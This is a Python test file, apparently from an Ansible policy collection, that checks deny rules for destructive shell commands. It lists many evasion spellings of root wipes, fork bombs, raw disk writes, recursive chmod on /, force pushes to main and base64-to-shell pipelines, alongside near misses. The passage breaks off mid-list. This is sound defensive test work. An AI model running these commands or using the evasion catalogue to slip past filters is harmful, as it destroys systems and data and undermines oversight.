# Copyright (c) 2026 praxis.gatekeeper contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Deny rules, content tiers and the operator allowlist, tested by evasion class.

Each deny rule gets a table of spellings of the same effect (quoting, wrappers, nesting, variables, expansions,
working-directory tricks) that must all be caught, and a table of near misses that must not be: a deny rule
that fires on ordinary administration is as useless as one that can be walked around.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable

import pytest
from ansible_collections.praxis.gatekeeper.plugins.plugin_utils.core.models import Tier
from ansible_collections.praxis.gatekeeper.plugins.plugin_utils.policy import _commands, _shell
from ansible_collections.praxis.gatekeeper.plugins.plugin_utils.policy._commands import (
    RULES_DATA,
    Finding,
    content_tier,
    deny_findings,
    deny_rules,
    matches_allowlist,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st


def _rules(text: str, cwd: str | None = None) -> set[str]:
    return {f.rule for f in deny_findings(text, cwd=cwd)}


# ---------------------------------------------------------------------------------------------------------------
# deny.root-wipe
# ---------------------------------------------------------------------------------------------------------------

ROOT_WIPE = [
    # Stored for later (ruleset 2026.12.18): what a text writes to a file is read as ``copy content=`` writing the
    # same file is (these two were near misses before: the file was written, not run).
    "echo 'rm -rf /' > notes.txt",
    "echo 'rm -rf /' > a.sh; sh b.sh",
    # ${X?} stops only when X is unset: set and empty, it is nothing (the :? guard is a near miss below)
    'rm -rf "${BUILD_DIR?}"/',
    'rm -rf "${BUILD_DIR}"/',
    # a line read from a here-string is known (ruleset 2026.12.23)
    "read -r target <<< '/'; rm -rf \"$target\"",
    "read -rs target <<< '/usr'; rm -rf \"$target\"",
    "rm -rf /",
    "rm -fr /*",
    "rm -r -f /",
    "rm --recursive --force /",
    "rm -Rf /etc",
    "rm -f /etc/*",
    "r''m -rf /",
    '"r"m -rf /',
    "\\rm -rf /",
    "/bin/rm -rf /",
    "/usr/bin/../bin/rm -rf /usr",
    "sudo rm -rf /",
    "sudo -u root -E rm -rf /",
    "sudo -- rm -rf /",
    "doas rm -rf /",
    "pkexec rm -rf /",
    "env -i PATH=/bin rm -rf /",
    "nohup nice -n 10 rm -rf / &",
    "timeout 10 rm -rf /home",
    "ionice -c3 stdbuf -oL setsid rm -rf /var",
    "command rm -rf /",
    "exec rm -rf /",
    "busybox rm -rf /",
    "sh -c 'rm -rf /'",
    'bash -lc "rm -rf /"',
    "bash -x -e -c 'rm -rf /'",
    "sudo sh -c 'cd / && rm -rf *'",
    "env bash -c 'rm -rf /'",
    "busybox sh -c 'rm -rf /'",
    "su -c 'rm -rf /'",
    "su - root -c 'rm -rf /'",
    "runuser -u root -- rm -rf /",
    'eval "rm -rf /"',
    "eval rm -rf /",
    "{rm,-rf,/}",
    "rm -rf /{bin,etc}",
    "rm${IFS}-rf${IFS}/",
    "rm$IFS-rf$IFS/",
    "$'\\x72\\x6d' -rf /",
    "$'\\162\\155' -rf /",
    "$'rm' -rf $'\\x2f'",
    "a=rm; $a -rf /",
    'a="rm -rf"; $a /',
    "export X=/; rm -rf $X",
    "declare -r T=/; rm -rf $T",
    "X=/; sh -c 'rm -rf $X'",
    'rm -rf "$UNSET"/',
    "rm -rf ${DIR}/*",
    'rm -rf "${STEAMROOT}/"*',
    "rm -rf ${X:-/}",
    "cd / && rm -rf *",
    "cd /; rm -rf -- *",
    "cd /usr && rm -rf ../*",
    "pushd / && rm -rf .",
    "find / -delete",
    "find / -type f -delete",
    "find / -name '*' -delete",
    "find / -exec rm -rf {} \\;",
    "find /etc -mindepth 1 -exec rm -rf {} +",
    "find / -exec /bin/rm {} +",
    "find / | xargs rm -rf",
    "echo / | xargs rm -rf",
    "rm -rf --no-preserve-root /",
    "rm --no-preserve-root -r /tmp/x",
    "bash <<EOF\nrm -rf /\nEOF",
    "bash <<'EOF'\nrm -rf /\nEOF",
    "sh <<-EOF\n\trm -rf /\n\tEOF",
    "bash <<< 'rm -rf /'",
    "rm -rf / # cleanup",
    "rm \\\n -rf \\\n /",
    "rsync -a --delete /tmp/empty/ /",
    "rsync -a --delete-after /srv/empty/ /etc/",
    "srm -r /etc",
    "ssh host 'rm -rf /'",
    "ssh -p 22 -i key admin@host rm -rf /",
    "$(echo rm) -rf /",
    "`echo rm` -rf /",
    "for d in /bin /etc; do rm -rf $d; done",
    'f() { rm -rf "$1"; }; f /',
    "watch rm -rf /",
    "python3 -c \"import shutil; shutil.rmtree('/')\"",
    "python3 -c \"import os; os.system('rm -rf /')\"",
    "perl -e 'system(\"rm -rf /\")'",
    "awk 'BEGIN { system(\"rm -rf /\") }'",
    "rm -rf ~",
    'X=; rm -rf "$X/"',
    "echo 'rm -rf /' | sh",
    "printf 'rm -rf /' | bash",
    "rm -rf //",
    "rm -rf /./",
    "rm -rf /..",
    "if true; then rm -rf /; fi",
    "while :; do rm -rf /; done",
    "case x in x) rm -rf / ;; esac",
    "{ rm -rf /; }",
    "(rm -rf /)",
    "true && rm -rf / || true",
    "x=$(rm -rf /)",
    'echo "$(rm -rf /)"',
    "cat <(rm -rf /)",
    "sudo -D / rm -rf *",
    "env -C / rm -rf *",
    "env -S 'rm -rf /'",
    "xargs -a /dev/null rm -rf /",
    "flock /tmp/lock rm -rf /",
    "script -c 'rm -rf /' /dev/null",
    "alias x='rm -rf'; x /",
    "$cmd -rf /",
    "${cmd} -rf /",
    "set -- /; rm -rf $1",
    "rm -rf $HOME",
    'rm -rf "${HOME}"',
    "bash <(echo 'rm -rf /')",
    "source <(printf 'rm -rf /')",
    "rm -rf $(echo L2V0Yw== | base64 -d)",
    'cd / && rm -rf "$(pwd)"',
    'rm -rf "$(dirname /etc/x)"',
    "x=$(echo rm); $x -rf /",
    "bash /dev/stdin <<< 'rm -rf /'",
    "tar -xf x --to-command='rm -rf /'",
    "tar -cf x --checkpoint=1 --checkpoint-action=exec='rm -rf /' .",
    "rsync -e 'sh -c \"rm -rf /\"' a b:",
    "ssh -o ProxyCommand='rm -rf /' h",
    "git -c alias.x='!rm -rf /' x",
    "git -c core.sshCommand='rm -rf /' fetch",
    "apt-get -o APT::Update::Pre-Invoke::='rm -rf /' update",
    "trap 'rm -rf /' EXIT",
    "at now <<< 'rm -rf /'",
    "parallel rm -rf ::: / /etc",
    "sudo -i <<< 'rm -rf /'",
    "toybox rm -rf /",
    "$SHELL -c 'rm -rf /'",
    '"$(which bash)" -lc "rm -rf /"',
    "bash -c \"$(cat <<'EOF'\nrm -rf /\nEOF\n)\"",
    "perl -e 'exec \"rm -rf /\"'",
    "ruby -e 'system \"rm -rf /\"'",
    "lua -e 'os.execute(\"rm -rf /\")'",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    "node -e \"require('child_process').execSync('rm -rf /')\"",
    "php -r 'shell_exec(\"rm -rf /\");'",
    "python3 -c \"import subprocess; subprocess.run(['rm', '-rf', '/'])\"",
    "cat > /tmp/x.sh <<'EOF'\nrm -rf /\nEOF\nbash /tmp/x.sh",
    "echo 'rm -rf /' > run.sh; chmod +x run.sh; ./run.sh",
    "printf 'rm -rf /' > a; . ./a",
    "echo 'import os; os.system(\"rm -rf /\")' > /tmp/p.py; python3 /tmp/p.py",
    "cd /srv && echo 'rm -rf /' > x && sh /srv/x",
]

ROOT_WIPE_NEGATIVE = [
    "rm -rf /tmp/build",
    "rm -rf ./build",
    "rm /etc/foo.conf",
    "rm -rf /srv/app/cache",
    "rm -rf /var/www/html/old",
    "echo rm -rf /",
    'echo "rm -rf /"',
    "grep -r 'rm -rf /' .",
    "find /var/log -name '*.gz' -mtime +7 -delete",
    "find /tmp -type f -delete",
    "find /var/www -name '*.pyc' -exec rm -f {} +",
    "rsync -a --delete ./site/ /var/www/html/",
    "rsync -a /srv/empty/ /",
    "ls -la /",
    "cd /tmp && rm -rf *",
    'rm -rf "$BUILD_DIR"',
    "# rm -rf /",
    "printf '%s\\n' 'rm -rf /'",
    "man rm",
    "git rm -r --cached .",
    "docker rm -f web",
    "kubectl delete pod web",
    "rm -i /etc/motd",
    "'rm -rf /'",
    "state=absent",
    "/etc/hosts",
    "hello world",
    "rmdir /tmp/empty",
    "cd /srv && rm -rf build",
    "echo 'rm -rf /' > /dev/null",
    # shellcheck's SC2115 guard: ${X:?} stops the command when X is unset or empty, so it never removes / (T3: the
    # operand is still unknown)
    'rm -rf "${BUILD_DIR:?}"/',
    'rm -rf "${BUILD_DIR:?}/"*',
    'rm -rf "${BUILD_DIR:?BUILD_DIR is unset}"/',
    "read -r target <<< '/tmp/build'; rm -rf \"$target\"",
    "echo 'rm -rf /' >&2",
    "echo 'rm -rf /' | wc -c",
]


@pytest.mark.parametrize("text", ROOT_WIPE)
def test_root_wipe(text: str) -> None:
    assert "deny.root-wipe" in _rules(text), text


@pytest.mark.parametrize("text", ROOT_WIPE_NEGATIVE)
def test_root_wipe_near_misses(text: str) -> None:
    assert "deny.root-wipe" not in _rules(text), text


def test_root_wipe_uses_callers_cwd() -> None:
    assert "deny.root-wipe" in _rules("rm -rf *", cwd="/")
    assert "deny.root-wipe" in _rules("rm -rf ../../*", cwd="/srv/app")
    assert "deny.root-wipe" not in _rules("rm -rf *", cwd="/tmp/work")
    assert "deny.root-wipe" not in _rules("rm -rf *")


# ---------------------------------------------------------------------------------------------------------------
# deny.fork-bomb
# ---------------------------------------------------------------------------------------------------------------

FORK_BOMB = [
    ":(){ :|:& };:",
    ":(){ :|: & };:",
    ": ( ) { : | : & } ; :",
    ":(){\n:|:&\n};:",
    "bomb() { bomb | bomb & }; bomb",
    "function f { f | f & }; f",
    "function f() { f|f & }; f",
    "f(){ f & f; }; f",
    "f(){ f|f& };f",
    "perl -e 'fork while fork'",
    "perl -e 'fork while 1'",
    "python3 -c 'import os\nwhile True:\n    os.fork()'",
    'python -c "import os\nwhile 1: os.fork()"',
    "ruby -e 'loop { fork }'",
    "node -e 'while(1){require(\"child_process\").fork(__filename)}'",
    "sh -c ':(){ :|:& };:'",
    "bash -c 'x(){ x|x& };x'",
    "eval ':(){ :|:& };:'",
    "echo ':(){ :|:& };:' | bash",
    "bash <<'EOF'\n:(){ :|:& };:\nEOF",
    "sudo bash -c ':(){ :|:& };:'",
    "python3 <<'EOF'\nimport os\nwhile True:\n    os.fork()\nEOF",
]

FORK_BOMB_NEGATIVE = [
    "echo ':)'",
    "f() { echo hi; }; f",
    "f() { g | h; }; f",
    "f() { f; }",
    "perl -e 'print \"fork\"'",
    "python3 -c 'import os; pid = os.fork()'",
    "while true; do sleep 1; done",
    "cat file | grep x | sort &",
    "ls | ls",
    "git fork",
]


@pytest.mark.parametrize("text", FORK_BOMB)
def test_fork_bomb(text: str) -> None:
    assert "deny.fork-bomb" in _rules(text), text


@pytest.mark.parametrize("text", FORK_BOMB_NEGATIVE)
def test_fork_bomb_near_misses(text: str) -> None:
    assert "deny.fork-bomb" not in _rules(text), text


# ---------------------------------------------------------------------------------------------------------------
# deny.raw-disk-write
# ---------------------------------------------------------------------------------------------------------------

RAW_DISK = [
    "dd if=/dev/zero of=/dev/sda",
    "dd if=/dev/urandom of=/dev/nvme0n1 bs=1M",
    "dd of=/dev/sda if=/dev/zero",
    "mkfs.ext4 /dev/sda1",
    "mkfs -t xfs /dev/vdb",
    "mke2fs -F /dev/sdb",
    "mkswap /dev/sda2",
    "mkntfs -f /dev/sdc1",
    "wipefs -a /dev/sda",
    "shred -n 3 /dev/sda",
    "blkdiscard /dev/nvme0n1",
    "sgdisk --zap-all /dev/sda",
    "sgdisk -Z /dev/sdb",
    "sgdisk -o /dev/sdb",
    "cat /dev/zero > /dev/sda",
    "echo 1 >/dev/sda",
    "cat img >> /dev/xvda",
    "echo x | tee /dev/sda",
    "echo x | sudo tee -a /dev/sdb",
    "badblocks -w /dev/sdc",
    "sudo dd if=img of=/dev/mmcblk0",
    "sh -c 'dd if=/dev/zero of=/dev/sda'",
    "d=/dev/sda; dd if=/dev/zero of=$d",
    "dd if=/dev/zero of=/dev/disk/by-id/ata-XYZ",
    "/sbin/mkfs.xfs -f /dev/mapper/vg-data",
    "$(echo mkfs) /dev/sda",
    "dd if=/dev/zero of=/dev/sd{a,b}",
    "cp image.iso /dev/sdb",
    ": > /dev/vg0/root",
    "dd if=/dev/zero of=//dev/../dev/sda",
    "dd${IFS}if=/dev/zero${IFS}of=/dev/sda",
    "eval 'mkfs.ext4 /dev/sda'",
    "find /x -exec dd if=/dev/zero of=/dev/sda \\;",
    "cat /dev/urandom &> /dev/sda",
    "$'\\x64\\x64' if=/dev/zero of=/dev/sda",
    "truncate -s 0 /dev/sda",
    "python3 -c \"open('/dev/sda','wb').write(b'0'*512)\"",
    "exec 3>/dev/sda",
    "pv image.img > /dev/nvme0n1",
]

RAW_DISK_NEGATIVE = [
    "dd if=/dev/sda of=/tmp/x.img",
    "mkfs.ext4 /tmp/image.img",
    "wipefs /dev/sda",
    "echo hi > /dev/null",
    "cat /dev/sda > /tmp/disk.img",
    "badblocks /dev/sda",
    "sgdisk -p /dev/sda",
    "dd if=/dev/zero of=/dev/null",
    "tee /tmp/log",
    "ls -l /dev/sda",
    "shred -u /tmp/secret",
    "echo x > /dev/stdout",
    "echo x 2>/dev/tty",
    "echo x > /dev/shm/x",
    "lsblk /dev/sda",
    "python3 -c \"print(open('/dev/sda','rb').read(1))\"",
    "exec 3>/tmp/log",
]


@pytest.mark.parametrize("text", RAW_DISK)
def test_raw_disk_write(text: str) -> None:
    assert "deny.raw-disk-write" in _rules(text), text


@pytest.mark.parametrize("text", RAW_DISK_NEGATIVE)
def test_raw_disk_near_misses(text: str) -> None:
    assert "deny.raw-disk-write" not in _rules(text), text


# ---------------------------------------------------------------------------------------------------------------
# deny.recursive-perms-root
# ---------------------------------------------------------------------------------------------------------------

PERMS = [
    "chmod -R 777 /",
    "chmod -R 000 /etc",
    "chown -R nobody:nogroup /",
    "chown -R user /usr",
    "chgrp -R staff /var",
    "setfacl -R -m u:bob:rwx /",
    "chmod --recursive 777 /",
    "chmod 777 -R /",
    "chmod -Rv 777 /",
    "sudo chmod -R 777 /*",
    "cd / && chmod -R 777 .",
    "sh -c 'chown -R x /etc'",
    "find / -exec chmod 777 {} +",
    "find / -print0 | xargs -0 chmod 777",
    "chmod -R a+rwx /{etc,usr}",
    "c=chmod; $c -R 777 /",
    "chattr -R +i /",
    "chown -R root: /home",
    "eval chmod -R 777 /boot",
    "env chmod -R 777 /bin",
    "ch''mod -R 777 /",
    "chmod -R 777 ${X}/",
    "ssh h chmod -R 777 /",
]

PERMS_NEGATIVE = [
    "chmod -R 755 /srv/app",
    "chmod 644 /etc/hosts",
    "chown -R www-data: /var/www/html",
    "chmod 755 /",
    "cd / && chown -R root /srv/app",
    "chmod -r /tmp/x",
    "ls -R /",
    "chmod -R 700 ~/.ssh",
    "find /var/www -type f -name '*.php' -exec chmod 644 {} +",
    "echo chmod -R 777 /",
]


@pytest.mark.parametrize("text", PERMS)
def test_recursive_perms_root(text: str) -> None:
    assert "deny.recursive-perms-root" in _rules(text), text


@pytest.mark.parametrize("text", PERMS_NEGATIVE)
def test_recursive_perms_near_misses(text: str) -> None:
    assert "deny.recursive-perms-root" not in _rules(text), text


# ---------------------------------------------------------------------------------------------------------------
# deny.force-push-main
# ---------------------------------------------------------------------------------------------------------------

FORCE_PUSH = [
    "git push --force origin main",
    "git push -f origin master",
    "git push origin +main",
    "git push origin +master:master",
    "git push --force-with-lease origin main",
    "git push --force-with-lease=main:abc origin main",
    "git push --force origin HEAD:main",
    "git push -f origin HEAD:refs/heads/main",
    "git push --force",
    "git push -f origin",
    "git push -f origin HEAD",
    "git -C /repo push -f origin main",
    "git -c user.name=x push --force origin main",
    "git --git-dir=/r/.git push -f origin main",
    "git push --mirror origin",
    "git push --all --force origin",
    "sudo -u deploy git push -f origin main",
    "sh -c 'git push -f origin main'",
    "b=main; git push -f origin $b",
    "git push origin --force main",
    "git push -uf origin main",
    "git push --force-if-includes origin master",
    "git push origin :main",
    "git push --delete origin main",
    "/usr/bin/git push -f origin main",
    'git push -f origin "$BRANCH"',
    "g''it push -f origin ma''in",
    "git push -f origin 'refs/heads/*'",
]

FORCE_PUSH_NEGATIVE = [
    "git push origin main",
    "git push --force origin feature/x",
    "git push -f origin HEAD:feature",
    "git push origin +feature",
    "git pull --force origin main",
    "git push origin main --tags",
    "echo git push -f origin main",
    "git push --force-with-lease origin maintenance",
    "git log main",
    "git push origin main:main",
    "git fetch -f origin main",
]


@pytest.mark.parametrize("text", FORCE_PUSH)
def test_force_push_main(text: str) -> None:
    assert "deny.force-push-main" in _rules(text), text


@pytest.mark.parametrize("text", FORCE_PUSH_NEGATIVE)
def test_force_push_near_misses(text: str) -> None:
    assert "deny.force-push-main" not in _rules(text), text


# ---------------------------------------------------------------------------------------------------------------
# deny.decode-to-shell
# ---------------------------------------------------------------------------------------------------------------

DECODE = [
    "echo cm0gLXJmIC8K | base64 -d | sh",
    "echo cm0= | base64 --decode | bash",
    "base64 -d <<< cm0= | sh",
    "echo x | base64 -D | zsh",
    "echo 726d | xxd -r -p | sh",
    "echo 726d | xxd -rp | dash",
    "printf '\\x72\\x6d' | sh",
    "echo -e '\\x72\\x6d' | bash",
    "echo x | openssl enc -base64 -d | sh",
    "echo x | openssl base64 -d | sh",
    'eval "$(echo cm0= | base64 -d)"',
    "bash <(base64 -d <<< cm0=)",
    'sh -c "$(xxd -r -p <<< 726d)"',
    "source <(echo cm0= | base64 -d)",
    ". <(base64 -d <<< cm0=)",
    "python3 -c \"import base64,os; os.system(base64.b64decode('cm0='))\"",
    "python3 -c \"exec(bytes.fromhex('7072696e74'))\"",
    "python -c \"import codecs; exec(codecs.decode('7072696e74','hex'))\"",
    'perl -e \'eval pack("H*","7072696e74")\'',
    "perl -MMIME::Base64 -e 'system(decode_base64(\"cm0=\"))'",
    'ruby -e \'require "base64"; system(Base64.decode64("cm0="))\'',
    "node -e \"eval(Buffer.from('cm0=','base64').toString())\"",
    "node -e \"require('child_process').execSync(Buffer.from('cm0=','base64').toString())\"",
    "php -r 'eval(base64_decode(\"cm0=\"));'",
    "echo cm0= | base64 -d | sudo bash",
    "echo x | base64 -d | python3",
    "echo x | base64 -d | perl",
    'x=$(echo cm0= | base64 -d); eval "$x"',
    "echo x | base64 -d | source /dev/stdin",
    "echo x | base64 -d | . /dev/stdin",
    "echo x | base64 -d > /tmp/a.sh; sh /tmp/a.sh",
    "curl -s https://x | base64 -d | bash",
    "echo H4sI | base64 -d | gunzip | sh",
    "echo x | base32 -d | sh",
    "echo x | basenc --base64 -d | sh",
    "echo x | base64 -d | xargs -I{} sh -c '{}'",
    "$(echo cm0= | base64 -d)",
    "echo cm0= | b''ase64 -d | s''h",
    "echo cm0= | /usr/bin/base64 -d | /bin/sh",
    "echo cm0= | base64 -d | bash -s",
    "echo cm0= | base64 -d | env sh",
    "sh -c 'echo cm0= | base64 -d | sh'",
    "python3 - <<'EOF'\nimport base64, os\nos.system(base64.b64decode('cm0='))\nEOF",
    'gunzip <<< "$blob" | sh',
    "echo x | base64 -d | tee /tmp/a.sh; sh /tmp/a.sh",
    "base64 -d <<< x > f && chmod +x f && ./f",
    "base64 -d -o /tmp/p.sh in.b64; bash /tmp/p.sh",
    '$SUDO bash -c "$(echo cm0= | base64 -d)"',
    "echo cm0= | base64 -d | at now",
    "echo cm0= | base64 -d | su",
    "eval \"$(printf '\\x72\\x6d')\"",
]

DECODE_NEGATIVE = [
    "echo aGVsbG8= | base64 -d",
    "base64 -d file.b64 > file.bin",
    "echo hello | sh",
    "echo x | base64 | sh",
    "python3 -c \"import base64; print(base64.b64decode('aGk='))\"",
    "python3 -c \"import os; os.system('ls')\"",
    "xxd file | head",
    "openssl enc -aes-256-cbc -in x -out y",
    "base64 -d <<< x | tee out.bin",
    "echo x | base64 -d | python3 script.py",
    "gunzip -c x.gz > y",
    "base64 -d in > out; sh other.sh",
    "zcat install.sh.gz | sh",
    "gunzip -c x.gz | tar -xf -",
    "bash -c 'x=$(base64 f); eval echo'",
]


@pytest.mark.parametrize("text", DECODE)
def test_decode_to_shell(text: str) -> None:
    assert "deny.decode-to-shell" in _rules(text), text


@pytest.mark.parametrize("text", DECODE_NEGATIVE)
def test_decode_near_misses(text: str) -> None:
    assert "deny.decode-to-shell" not in _rules(text), text


# ---------------------------------------------------------------------------------------------------------------
# Evasion matrix: every rule's base command through every transformation must still be caught
# ---------------------------------------------------------------------------------------------------------------

SIMPLE_BASES = {
    "deny.root-wipe": "rm -rf /",
    "deny.raw-disk-write": "dd if=/dev/zero of=/dev/sda",
    "deny.recursive-perms-root": "chmod -R 777 /",
    "deny.force-push-main": "git push -f origin main",
}
WHOLE_BASES = {
    **SIMPLE_BASES,
    "deny.fork-bomb": ":(){ :|:& };:",
    "deny.decode-to-shell": "echo cm0gLXJmIC8K | base64 -d | sh",
}


def _q(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


WHOLE_TRANSFORMS: dict[str, Callable[[str], str]] = {
    "sh -c": lambda t: f"sh -c {_q(t)}",
    "bash -lc": lambda t: f"bash -lc {_q(t)}",
    "bash -e -x -c": lambda t: f"bash -e -x -c {_q(t)}",
    "sudo sh -c": lambda t: f"sudo sh -c {_q(t)}",
    "env bash -c": lambda t: f"env bash -c {_q(t)}",
    "busybox sh -c": lambda t: f"busybox sh -c {_q(t)}",
    "su -c": lambda t: f"su -c {_q(t)}",
    "eval": lambda t: f"eval {_q(t)}",
    "eval eval": lambda t: f"eval {_q('eval ' + _q(t))}",
    "heredoc": lambda t: f"bash <<'EOF'\n{t}\nEOF",
    "heredoc-dash": lambda t: f"sh <<-EOF\n\t{t}\n\tEOF",
    "here-string": lambda t: f"bash <<< {_q(t)}",
    "echo-pipe": lambda t: f"echo {_q(t)} | sh",
    "printf-pipe": lambda t: f"printf '%s\\n' {_q(t)} | bash",
    "base64-heredoc": lambda t: f"bash -c \"$(cat <<'EOF'\n{t}\nEOF\n)\"",
    "comment": lambda t: f"{t} # routine cleanup",
    "leading-comment": lambda t: f"# step 1\n{t}",
    "subshell": lambda t: f"( {t} )",
    "group": lambda t: f"{{ {t}; }}",
    "if-block": lambda t: f"if true; then\n  {t}\nfi",
    "while-block": lambda t: f"while true; do {t}; done",
    "case-block": lambda t: f"case x in x) {t} ;; esac",
    "function": lambda t: f"f() {{ {t}; }}; f",
    "function-keyword": lambda t: f"function f {{ {t}; }}",
    "and-chain": lambda t: f"true && {t}",
    "or-chain": lambda t: f"false || {t}",
    "background": lambda t: f"{t} &",
    "substitution": lambda t: f"x=$({t})",
    "backticks": lambda t: f"echo `{t}`",
    "process-substitution": lambda t: f"cat <({t})",
    "ssh": lambda t: f"ssh admin@host {_q(t)}",
    "watch": lambda t: f"watch -n 5 {_q(t)}",
    "trap": lambda t: f"trap {_q(t)} EXIT",
    "flock -c": lambda t: f"flock /tmp/l -c {_q(t)}",
    "script -c": lambda t: f"script -q -c {_q(t)} /dev/null",
    "cd-first": lambda t: f"cd /tmp && {t}",
    "semicolons": lambda t: f"echo start; {t}; echo end",
    "newlines": lambda t: f"set -e\necho start\n{t}\necho end\n",
    "crlf": lambda t: f"echo start\r\n{t}\r\n",
    "python-system": lambda t: f"python3 -c {_q('import os; os.system(' + repr(t) + ')')}",
}


def _name_args(text: str) -> tuple[str, str]:
    name, _separator, args = text.partition(" ")
    return name, args


SIMPLE_TRANSFORMS: dict[str, Callable[[str], str]] = {
    "sudo": lambda t: f"sudo -u root -E -- {t}",
    "doas": lambda t: f"doas {t}",
    "env": lambda t: f"env -i PATH=/bin {t}",
    "nohup nice": lambda t: f"nohup nice -n 5 {t}",
    "timeout": lambda t: f"timeout -s KILL 9 {t}",
    "busybox": lambda t: f"busybox {t}",
    "command": lambda t: f"command {t}",
    "exec": lambda t: f"exec {t}",
    "stdbuf setsid": lambda t: f"stdbuf -oL setsid {t}",
    "time": lambda t: f"time {t}",
    "line-continuation": lambda t: t.replace(" ", " \\\n", 1),
    "tabs": lambda t: t.replace(" ", "\t"),
    "IFS": lambda t: t.replace(" ", "${IFS}"),
    "IFS-bare": lambda t: t.replace(" ", "$IFS''"),
    "ansi-c-name": lambda t: "$'" + "".join(f"\\x{ord(c):02x}" for c in _name_args(t)[0]) + "' " + _name_args(t)[1],
    "octal-name": lambda t: "$'" + "".join(f"\\{ord(c):03o}" for c in _name_args(t)[0]) + "' " + _name_args(t)[1],
    "split-quotes": lambda t: t[0] + "''" + t[1:],
    "double-quotes": lambda t: '"' + t[0] + '"' + t[1:],
    "backslash": lambda t: "\\" + t,
    "absolute": lambda t: "/usr/bin/" + t,
    "dotdot-path": lambda t: "/usr/local/../bin/" + t,
    "variable": lambda t: f"c={_name_args(t)[0]}; $c {_name_args(t)[1]}",
    "braced-variable": lambda t: f"c={_name_args(t)[0]}; ${{c}} {_name_args(t)[1]}",
    "export-variable": lambda t: f"export c={_name_args(t)[0]}; $c {_name_args(t)[1]}",
    "whole-variable": lambda t: f"c={_q(t)}; $c",
    "array": lambda t: f'a=({t}); "${{a[@]}}"',
    "positional": lambda t: f'set -- {t}; "$@"',
    "default-value": lambda t: f"${{u:-{_name_args(t)[0]}}} {_name_args(t)[1]}",
    "unknown-prefix": lambda t: f"$unknown {t}",
    "echo-substitution": lambda t: f"$(echo {_name_args(t)[0]}) {_name_args(t)[1]}",
    "backtick-name": lambda t: f"`echo {_name_args(t)[0]}` {_name_args(t)[1]}",
    "dynamic-name": lambda t: f"$(which {_name_args(t)[0]}) {_name_args(t)[1]}",
    "brace-expansion": lambda t: "{" + ",".join(t.split(" ")) + "}",
    "find-exec": lambda t: f"find /tmp -maxdepth 0 -exec {t} \\;",
    "xargs": lambda t: f"echo | xargs {t}",
    "parallel": lambda t: f"parallel {_q(t)} ::: x",
    "runuser": lambda t: f"runuser -u root -- {t}",
    "alias": lambda t: f"alias x={_q(_name_args(t)[0])}; x {_name_args(t)[1]}",
    "ssh-words": lambda t: f"ssh -p 22 host {t}",
}


# The python-system transform wraps the text in single quotes; the decode-to-shell base contains its own quoting,
# so that one combination would not be valid shell (the class itself is covered by test_decode_to_shell).
_WHOLE_CASES = [
    (rule, transform)
    for rule in sorted(WHOLE_BASES)
    for transform in sorted(WHOLE_TRANSFORMS)
    if (rule, transform) != ("deny.decode-to-shell", "python-system")
]


@pytest.mark.parametrize(("rule", "transform"), _WHOLE_CASES)
def test_evasion_matrix_whole_text(rule: str, transform: str) -> None:
    text = WHOLE_TRANSFORMS[transform](WHOLE_BASES[rule])
    assert rule in _rules(text), text


@pytest.mark.parametrize("transform", sorted(SIMPLE_TRANSFORMS))
@pytest.mark.parametrize("rule", sorted(SIMPLE_BASES))
def test_evasion_matrix_simple_command(rule: str, transform: str) -> None:
    text = SIMPLE_TRANSFORMS[transform](SIMPLE_BASES[rule])
    assert rule in _rules(text), text


# ---------------------------------------------------------------------------------------------------------------
# Cross-cutting deny behaviour
# ---------------------------------------------------------------------------------------------------------------

HARMLESS = [
    "",
    "ls -la /etc",
    "cat /etc/os-release",
    "echo hello",
    "uptime",
    "df -h",
    "systemctl status sshd",
    "touch /tmp/x",
    "state=absent",
    "/etc/hosts",
    "hello world",
    "Please remove the old files from /srv before deploying.",
    "0 5 * * * /usr/local/bin/backup.sh",
    "{{ item }}",
    "key: value",
    "https://example.com/a?b=c&d=e",
    "C:\\Windows\\System32",
    "rm",
    "dd",
    "/dev/sda",
    "git push origin main",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_has_no_findings(text: str) -> None:
    assert deny_findings(text) == []


def test_finding_shape() -> None:
    findings = deny_findings("sudo rm -rf / ; " + "x" * 500)
    assert findings
    for finding in findings:
        assert isinstance(finding, Finding)
        assert finding.rule.startswith("deny.")
        assert len(finding.reason) < 200
        assert finding.rule.split(".", 1)[1].split("-")[0] in finding.reason.lower() or finding.reason


def test_reasons_quote_at_most_a_short_excerpt() -> None:
    text = "rm -rf / " + "A" * 5000
    for finding in deny_findings(text):
        assert len(finding.reason) < 200
        assert "A" * 70 not in finding.reason


def test_findings_are_deduplicated() -> None:
    findings = deny_findings("rm -rf /; rm -rf /; rm -rf /")
    assert len(findings) == len(set(findings))


def test_precomputed_analysis_is_used_where_the_fast_path_cannot_clear_the_text() -> None:
    analysis = _shell.analyze("cd / && rm -rf *")
    # The text is not what was analysed: a finding can only come from the analysis handed in.
    assert {f.rule for f in deny_findings("cd /tmp && ls", analysis=analysis)} == {"deny.root-wipe"}
    assert {f.rule for f in deny_rules(analysis)} == {"deny.root-wipe"}
    # Text the fast path clears is clear, whatever analysis comes with it (callers pass the text's own).
    assert deny_findings("ls /tmp", analysis=analysis) == []


def test_multiple_rules_in_one_text() -> None:
    rules = _rules("rm -rf /; dd if=/dev/zero of=/dev/sda; git push -f origin main")
    assert {"deny.root-wipe", "deny.raw-disk-write", "deny.force-push-main"} <= rules


def test_fast_path_skips_the_parser(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("analyze() must not run for plain text")

    monkeypatch.setattr(_commands._shell, "analyze", boom)
    for text in ("state=absent", "/etc/hosts", "hello world", "present", "0644", "nginx.conf"):
        assert deny_findings(text) == []


# ---------------------------------------------------------------------------------------------------------------
# Content tiers
# ---------------------------------------------------------------------------------------------------------------

T0 = [
    "ls -la /etc",
    "cat /etc/os-release",
    "echo hello",
    "uptime",
    "df -h",
    "systemctl status sshd",
    "touch /tmp/x",
    "rm -rf /tmp/build",
    "rm /var/tmp/x.log",
    "cd /tmp/work && rm -rf *",
    "grep -r foo /var/log",
    "dd if=/dev/sda of=/dev/null bs=1M count=1",
    "fdisk -l",
    "crontab -l",
    "mount",
    "hostname",
    "ps aux | grep nginx",
    "journalctl -u nginx --since today",
    "echo ok > /tmp/status",
    "id",
]

T2 = [
